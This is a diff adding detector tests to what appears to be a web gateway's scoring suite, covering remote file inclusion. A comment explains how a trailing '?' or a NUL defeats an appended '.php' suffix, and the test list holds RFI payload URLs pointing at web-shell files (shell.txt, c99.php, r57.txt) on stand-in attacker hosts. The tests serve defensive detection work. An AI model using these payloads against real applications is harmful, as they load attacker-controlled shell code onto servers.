@@ -50,3 +50,13 @@ describe('targets on the platforms a gateway fronts: Java web applications and c
   ];
   for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
 });
+
+describe('remote file inclusion: a URL to a file cut off by a trailing ? or a NUL', () => {
+  // include($_GET['page'] . '.php') fetches http://evil/shell.txt?.php — the '?' turns the application's
+  // suffix into a query string (CRS 931120); a NUL drops it where the runtime truncates
+  const attacks = ['http://evil.example/shell.txt?', 'https://203.0.113.5/x/c99.php??', 'ftp://evil.example/pub/r57.txt?', 'http://evil.example/shell.txt%00', 'HTTP://EVIL.EXAMPLE/A.TXT%00.php'];
+  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
+  // a link with a query, a search page without a file name, a URL in a sentence, a plain link
+  const benign = ['https://example.com/search?', 'https://example.com/page.html?id=1', 'https://example.com/', 'see https://example.com/a.html? or ask', 'https://example.com/docs/guide.pdf', 'http://example.com?'];
+  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
+});
